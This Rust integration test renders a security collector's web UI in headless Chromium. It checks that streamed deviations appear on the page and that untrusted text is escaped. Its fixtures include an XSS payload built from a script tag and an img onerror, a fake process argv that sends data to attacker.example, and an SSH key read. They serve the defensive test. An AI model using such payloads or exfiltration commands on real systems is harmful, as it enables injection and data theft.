//! The collector's web page in a real browser: the real `collector serve`, deviations streamed to
//! it over gRPC as an agent streams them, and Debian's Chromium rendering the page headless.
//!
//! Chromium is installed by `scripts/install-chromium` when missing (once); where it cannot be
//! installed (no network), the test says "skipped" and passes.

use std::path::{Path, PathBuf};
use std::process::{Command, Stdio};
use std::sync::OnceLock;
use std::time::{Duration, Instant, SystemTime, UNIX_EPOCH};

use proto::v1::{
    Ancestor, Deviation, DeviationBatch, DeviationKind, ExecEdge, FileAccess, LoadingEvidence,
    NetworkDestination, Novelty, Process, Severity, Workload, WorkloadKind,
    ingest_client::IngestClient, novelty::What,
};
use tests::{free_port, wait_for, workspace_bin};

const AGENT: &str = "web-ui-agent";
const CI_WORKLOAD: &str = "github:acme/web/ci/build";
const UNIT_WORKLOAD: &str = "unit:web-test.service";
const DROPPED: &str = "new executable /tmp/build/dropped in github:acme/web/ci/build";
const EDGE: &str = "new exec edge /usr/bin/make → /usr/bin/curl in github:acme/web/ci/build";
/// A summary an attacker controls: the page must show it as text, not run or insert it.
const HOSTILE: &str = "new destination <script>document.title='pwned'</script>\
                       <img src=x onerror=\"document.title='pwned'\"> in unit:web-test.service";
/// `HOSTILE` as the browser serializes it when it is text.
const HOSTILE_AS_TEXT: &str = "new destination &lt;script&gt;document.title='pwned'&lt;/script&gt;\
                               &lt;img src=x onerror=\"document.title='pwned'\"&gt; in \
                               unit:web-test.service";

use tests::Guard;

/// The `chromium` on PATH, installing Debian's package first when it is missing.
fn chromium() -> Option<PathBuf> {
    static CHROMIUM: OnceLock<Option<PathBuf>> = OnceLock::new();
    CHROMIUM
        .get_or_init(|| {
            if let Some(found) = on_path("chromium") {
                return Some(found);
            }
            let script = Path::new(env!("CARGO_MANIFEST_DIR")).join("../scripts/install-chromium");
            let installed = Command::new(&script).status().is_ok_and(|s| s.success());
            if !installed {
                println!(
                    "skipped: chromium is not installed and {} could not install it (no \
                     network or not root?)",
                    script.display()
                );
                return None;
            }
            on_path("chromium")
        })
        .clone()
}

fn on_path(name: &str) -> Option<PathBuf> {
    std::env::split_paths(&std::env::var_os("PATH")?)
        .map(|dir| dir.join(name))
        .find(|path| path.is_file())
}

/// Runs headless Chromium on `url` with `extra` arguments; returns what it printed.
fn browse(chromium: &Path, dir: &Path, extra: &[&str], url: &str) -> String {
    let out = dir.join("chromium.out");
    let err = dir.join("chromium.err");
    let mut child = Command::new(chromium)
        .args([
            "--headless",
            "--no-sandbox",
            "--disable-gpu",
            "--disable-dev-shm-usage",
            "--no-first-run",
            "--disable-background-networking",
            "--disable-component-update",
            "--disable-sync",
            "--virtual-time-budget=5000",
        ])
        .arg(format!("--user-data-dir={}", dir.join("profile").display()))
        .args(extra)
        .arg(url)
        .current_dir(dir)
        .stdin(Stdio::null())
        .stdout(std::fs::File::create(&out).unwrap())
        .stderr(std::fs::File::create(&err).unwrap())
        .spawn()
        .expect("start chromium");
    let deadline = Instant::now() + Duration::from_secs(90);
    let status = loop {
        if let Some(status) = child.try_wait().unwrap() {
            break status;
        }
        if Instant::now() > deadline {
            let _ = child.kill();
            let _ = child.wait();
            panic!(
                "chromium on {url} did not finish within 90 s:\n{}",
                std::fs::read_to_string(&err).unwrap_or_default()
            );
        }
        std::thread::sleep(Duration::from_millis(100));
    };
    assert!(
        status.success(),
        "chromium on {url} failed ({status}):\n{}",
        std::fs::read_to_string(&err).unwrap_or_default()
    );
    std::fs::read_to_string(&out).unwrap()
}

/// The opening tag of the first deviation row whose summary cell follows it, found by the row's
/// `data-row` attribute (`{deviation id}-{severity}`).
fn row_tag<'a>(html: &'a str, row: &str) -> &'a str {
    let needle = format!("data-row=\"{row}\"");
    let at = html
        .find(&needle)
        .unwrap_or_else(|| panic!("no row {row} in\n{html}"));
    let start = html[..at].rfind("<tr").expect("a row tag");
    let end = at + html[at..].find('>').expect("the tag closes");
    &html[start..=end]
}

/// The markup of `<section id="{id}">`, which must be in `dom`.
fn section<'a>(dom: &'a str, id: &str) -> &'a str {
    let start = dom
        .find(&format!("<section id=\"{id}\""))
        .unwrap_or_else(|| panic!("no section {id} in\n{dom}"));
    let end = dom[start..].find("</section>").expect("section closes");
    &dom[start..start + end]
}

fn deviation(id: &str, ago: Duration, workload: Workload, severity: Severity) -> Deviation {
    let time = SystemTime::now() - ago;
    Deviation {
        id: id.to_owned(),
        time_unix_nanos: time.duration_since(UNIX_EPOCH).unwrap().as_nanos() as i64,
        host: "web-host-1".to_owned(),
        workload: Some(workload),
        severity: severity.into(),
        ..Deviation::default()
    }
}

/// The story the page tells of run 7 (its medium and higher deviations, in time order).
const STORY: &str = "read ~/.ssh/id_rsa (a credential) → ran dropped (new, written by the job) → \
                     connected to 127.0.0.1:9 (new, no DNS)";

/// Five deviations: in run 7 of a CI job, an SSH key read, a critical dropped-then-executed
/// binary, a low exec edge and a connection without DNS; and a service's new destination whose
/// summary is hostile markup.
fn deviations() -> Vec<Deviation> {
    let ci = Workload {
        id: CI_WORKLOAD.to_owned(),
        kind: WorkloadKind::GithubJob.into(),
        run_id: "7".to_owned(),
    };
    let mut dropped = deviation(
        "dev-dropped",
        Duration::from_secs(120),
        ci.clone(),
        Severity::Critical,
    );
    dropped.kind = DeviationKind::NewExecutable.into();
    dropped.summary = DROPPED.to_owned();
    dropped.process = Some(Process {
        pid: 4242,
        ppid: 4241,
        executable: "/tmp/build/dropped".to_owned(),
        argv: ["./dropped", "--exfil", "https://attacker.example/upload"]
            .map(str::to_owned)
            .to_vec(),
        ancestry: [
            (4241, "/usr/bin/bash"),
            (4200, "/usr/bin/make"),
            (1, "/usr/lib/systemd/systemd"),
        ]
        .map(|(pid, exe)| Ancestor {
            pid,
            executable: exe.to_owned(),
        })
        .to_vec(),
        ..Process::default()
    });
    dropped.novelty = Some(Novelty {
        what: Some(What::Executable("/tmp/build/dropped".to_owned())),
    });
    dropped.signals = vec!["dropped-then-executed".to_owned()];
    dropped.loaded = Some(LoadingEvidence {
        paths: vec!["/usr/lib/x86_64-linux-gnu/libcurl.so.4".to_owned()],
        total: 23,
    });

    let mut key = deviation(
        "dev-key",
        Duration::from_secs(150),
        ci.clone(),
        Severity::High,
    );
    key.kind = DeviationKind::NewFileAccess.into();
    key.summary = "new file access /root/.ssh/id_rsa (read) by /usr/bin/bash".to_owned();
    key.novelty = Some(Novelty {
        what: Some(What::File(FileAccess {
            path: "/root/.ssh/id_rsa".to_owned(),
            intent: "read".to_owned(),
        })),
    });
    key.signals = vec!["credential".to_owned()];

    let mut connect = deviation(
        "dev-connect",
        Duration::from_secs(80),
        ci.clone(),
        Severity::Critical,
    );
    connect.kind = DeviationKind::NewNetworkDestination.into();
    connect.summary = "new destination 127.0.0.1:9/tcp by /tmp/build/dropped".to_owned();
    connect.novelty = Some(Novelty {
        what: Some(What::Destination(NetworkDestination {
            address: "127.0.0.1".to_owned(),
            port: 9,
            protocol: "tcp".to_owned(),
            dns_name: String::new(),
        })),
    });
    connect.signals = vec!["no-dns".to_owned()];

    let mut edge = deviation("dev-edge", Duration::from_secs(90), ci, Severity::Low);
    edge.kind = DeviationKind::NewExecEdge.into();
    edge.summary = EDGE.to_owned();
    edge.novelty = Some(Novelty {
        what: Some(What::ExecEdge(ExecEdge {
            parent_executable: "/usr/bin/make".to_owned(),
            child_executable: "/usr/bin/curl".to_owned(),
        })),
    });

    let unit = Workload {
        id: UNIT_WORKLOAD.to_owned(),
        kind: WorkloadKind::SystemdUnit.into(),
        run_id: String::new(),
    };
    let mut hostile = deviation(
        "dev-hostile",
        Duration::from_secs(30),
        unit,
        Severity::Medium,
    );
    hostile.host = "web-host-2".to_owned();
    hostile.kind = DeviationKind::NewNetworkDestination.into();
    hostile.summary = HOSTILE.to_owned();
    hostile.novelty = Some(Novelty {
        what: Some(What::Destination(NetworkDestination {
            address: "203.0.113.7".to_owned(),
            port: 443,
            protocol: "tcp".to_owned(),
            dns_name: "<b>bold</b>.example".to_owned(),
        })),
    });
    vec![key, dropped, edge, connect, hostile]
}

/// Streams `deviations` to the collector at `url` in one batch, as an agent does; waits for the ack.
fn stream(url: String, deviations: Vec<Deviation>) {
    let runtime = tokio::runtime::Runtime::new().unwrap();
    runtime.block_on(async move {
        let count = deviations.len() as u32;
        let mut client = IngestClient::connect(url)
            .await
            .expect("connect to collector");
        let batch = DeviationBatch {
            agent_id: AGENT.to_owned(),
            sequence: 1,
            deviations,
            spool_id: "web-ui-spool".to_owned(),
            status: None,
        };
        let mut acks = client
            .stream_deviations(tonic::codegen::tokio_stream::iter([batch]))
            .await
            .expect("open the stream")
            .into_inner();
        let ack = acks.message().await.expect("ack").expect("one ack");
        assert_eq!((ack.sequence, ack.stored), (1, count));
    });
}

#[test]
fn the_page_shows_what_agents_sent_and_escapes_it() {
    let Some(chromium) = chromium() else {
        return;
    };
    let dir = tempfile::tempdir().unwrap();
    let (grpc, http) = (free_port(), free_port());
    let collector = Guard(
        Command::new(workspace_bin("collector"))
            .args(["--config", "/dev/null", "serve"])
            .args(["--listen", &format!("127.0.0.1:{grpc}")])
            .args(["--metrics-listen", &format!("127.0.0.1:{http}")])
            .arg("--db")
            .arg(dir.path().join("collector.db"))
            .stdout(Stdio::null())
            .spawn()
            .unwrap(),
    );
    wait_for("collector to listen", Duration::from_secs(10), || {
        std::net::TcpStream::connect(("127.0.0.1", grpc))
            .and_then(|_| std::net::TcpStream::connect(("127.0.0.1", http)))
            .ok()
    });
    stream(format!("http://127.0.0.1:{grpc}"), deviations());
    let page = format!("http://127.0.0.1:{http}/");

    let dom = browse(&chromium, dir.path(), &["--dump-dom"], &page);
    assert!(
        !dom.contains("Cannot load"),
        "the page loaded its data:\n{dom}"
    );
    let recent = section(&dom, "deviations");
    for text in [
        DROPPED,
        EDGE,
        HOSTILE_AS_TEXT,
        CI_WORKLOAD,
        UNIT_WORKLOAD,
        "web-host-2",
    ] {
        assert!(
            recent.contains(text),
            "{text:?} missing in the deviations:\n{recent}"
        );
    }
    // Every row of the flat list has its workload cell, the newest one too.
    assert_eq!(
        recent.matches("class=\"workload\"").count(),
        5,
        "a workload link per deviation:\n{recent}"
    );
    // The evidence is in the page (shown when a row is selected).
    for text in [
        "/usr/lib/systemd/systemd",
        "/usr/bin/make",
        "https://attacker.example/upload",
        "dropped-then-executed",
        // What the dropped executable loaded: evidence on its row, not rows of their own.
        "/usr/lib/x86_64-linux-gnu/libcurl.so.4",
        "23 reads in all",
        "203.0.113.7",
        "&lt;b&gt;bold&lt;/b&gt;.example",
    ] {
        assert!(
            recent.contains(text),
            "{text:?} missing in the evidence:\n{recent}"
        );
    }
    // Agent text stays text: no element was injected, no script ran.
    assert_eq!(
        dom.matches("<script").count(),
        1,
        "only the page's own script:\n{dom}"
    );
    assert!(
        !dom.contains("<img") && !dom.contains("<b>"),
        "injected markup:\n{dom}"
    );
    assert!(
        dom.contains("<title>sensor collector</title>"),
        "a script ran:\n{dom}"
    );

    // The page opens on incidents: before the flat list, each with its story, its deviations
    // beneath, the low ones collapsed.
    let incidents_at = dom.find("<section id=\"incidents\"").unwrap();
    assert!(
        incidents_at < dom.find("<section id=\"deviations\"").unwrap(),
        "incidents come first:\n{dom}"
    );
    let incidents = section(&dom, "incidents");
    assert!(
        incidents.contains(&format!("<p class=\"story\">{STORY}</p>")),
        "run 7's story:\n{incidents}"
    );
    assert!(
        incidents.contains(CI_WORKLOAD)
            && incidents.contains("run 7")
            && incidents.contains("4 deviations")
            && incidents.contains("sev-critical"),
        "run 7: four deviations, critical at most:\n{incidents}"
    );
    let low_row = row_tag(incidents, "dev-edge-low");
    assert!(
        low_row.contains(" hidden"),
        "the low row is collapsed: {low_row}\n{incidents}"
    );
    for shown in ["dev-dropped-critical", "dev-key-high"] {
        let row = row_tag(incidents, shown);
        assert!(!row.contains(" hidden"), "{shown} is shown: {row}");
    }
    assert!(
        incidents.contains("▸ 1 low, 0 info collapsed: select to show"),
        "the collapsed line counts the low row:\n{incidents}"
    );
    assert!(
        incidents.contains(EDGE),
        "the collapsed row is in the page, only hidden:\n{incidents}"
    );
    let workloads = section(&dom, "workloads");
    for text in [
        CI_WORKLOAD,
        UNIT_WORKLOAD,
        "2 critical",
        "1 high",
        "1 low",
        "1 medium",
        "github-job",
    ] {
        assert!(
            workloads.contains(text),
            "{text:?} missing in the workloads:\n{workloads}"
        );
    }
    let agents = section(&dom, "agents");
    assert!(
        agents.contains(AGENT) && agents.contains("<td class=\"num\">5</td>"),
        "the agent with its 5 deviations:\n{agents}"
    );

    // Filters from the query string.
    let filtered = browse(
        &chromium,
        dir.path(),
        &["--dump-dom"],
        &format!("{page}?workload=github%3Aacme%2Fweb%2Fci%2Fbuild&min_severity=high"),
    );
    let recent = section(&filtered, "deviations");
    assert!(
        recent.contains(DROPPED),
        "the critical one stays:\n{recent}"
    );
    assert!(
        !recent.contains(EDGE) && !recent.contains("pwned"),
        "lower severities and other workloads are filtered out:\n{recent}"
    );

    // A picture for people: the critical deviation opened.
    let target = std::env::current_exe()
        .unwrap()
        .ancestors()
        .nth(3)
        .expect("target dir")
        .to_owned();
    let png = target.join("web-ui.png");
    let _ = std::fs::remove_file(&png);
    browse(
        &chromium,
        dir.path(),
        &[
            "--window-size=1400,1500",
            "--hide-scrollbars",
            &format!("--screenshot={}", png.display()),
        ],
        &format!("{page}?open=dev-dropped"),
    );
    let image = std::fs::read(&png).expect("a screenshot was written");
    assert!(image.starts_with(b"\x89PNG"), "{} is a PNG", png.display());

    // SAFETY: sending SIGTERM to our own child.
    unsafe { libc::kill(collector.0.id() as i32, libc::SIGTERM) };
    let mut collector = collector;
    let status = collector.0.wait().unwrap();
    assert!(status.success(), "collector exits 0 on SIGTERM: {status}");
}
